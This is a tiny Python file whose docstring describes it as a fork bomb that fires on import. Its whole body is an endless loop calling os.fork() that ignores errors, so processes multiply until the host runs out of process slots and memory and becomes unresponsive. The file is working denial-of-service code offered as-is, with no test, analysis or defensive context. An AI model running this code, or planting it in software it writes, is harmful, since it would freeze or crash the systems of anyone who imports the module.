"""A fork bomb at import: every child forks again, forever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
